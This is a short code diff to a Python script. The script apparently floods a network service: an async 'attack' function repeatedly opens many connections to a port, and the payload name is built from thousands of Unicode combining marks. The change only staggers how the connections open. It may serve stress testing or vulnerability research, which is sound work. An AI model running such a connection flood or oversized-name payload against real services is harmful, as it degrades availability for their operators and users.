@@ -13,6 +13,8 @@ from contextlib import suppress
 from dataclasses import dataclass
 from urllib.parse import quote
 
+#: How long the connections take to be opened, one after the other: no storm of connections is meant.
+_OPENING_SECONDS = 1.0
 _NAME = "x" + "\u0301" * 3950 + "\u0316" * 3950
 _DATE = "2031-01-07T10:00:00Z"
 
@@ -80,7 +82,7 @@ async def attack(name: str, port: int, connections: int, seconds: float) -> None
     request = wanted.request()
 
     async def one(number: int) -> None:
-        await asyncio.sleep(number * min(wanted.rest or 0.0, 1.0) / connections)
+        await asyncio.sleep(number * _OPENING_SECONDS / connections)
         while time.monotonic() < until:
             with suppress(OSError, TimeoutError):
                 async with asyncio.timeout(max(until - time.monotonic(), 0)):
